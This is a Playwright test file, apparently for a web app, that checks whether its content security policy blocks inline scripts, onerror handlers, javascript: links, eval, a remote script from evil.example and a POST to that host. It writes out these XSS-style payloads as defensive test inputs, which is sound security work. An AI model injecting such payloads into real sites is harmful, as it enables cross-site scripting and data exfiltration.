import { expect, test } from "../fixtures.ts";

test("the content security policy blocks inline scripts, event handlers and eval", { tag: "@journey" }, async ({
  page,
  lodge,
  allowErrors,
}) => {
  allowErrors("Content Security Policy", "/ran", "evil.example");
  for (const path of ["/", "/admin/login"]) {
    await page.goto(`${lodge.url}${path}`);
    const outcome = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.ran = 1";
      document.body.append(script);
      document.body.insertAdjacentHTML(
        "beforeend",
        '<img src="/ran" onerror="window.ran=1"><a href="javascript:ran=1">x</a>',
      );
      document.querySelector<HTMLElement>("a[href^='javascript:']")?.click();
      const foreign = document.createElement("script");
      foreign.src = "https://evil.example/x.js";
      const refused = new Promise((resolve) => foreign.addEventListener("error", resolve));
      document.body.append(foreign);
      await refused;
      let evaluated: string;
      try {
        evaluated = String(new Function("return 1")());
      } catch (error) {
        evaluated = (error as Error).name;
      }
      const posted = await fetch("https://evil.example/", { method: "POST" }).then(
        String,
        (error: Error) => error.name,
      );
      return { ran: "ran" in window, evaluated, posted };
    });
    expect(outcome).toEqual({ ran: false, evaluated: "EvalError", posted: "TypeError" });
  }
});
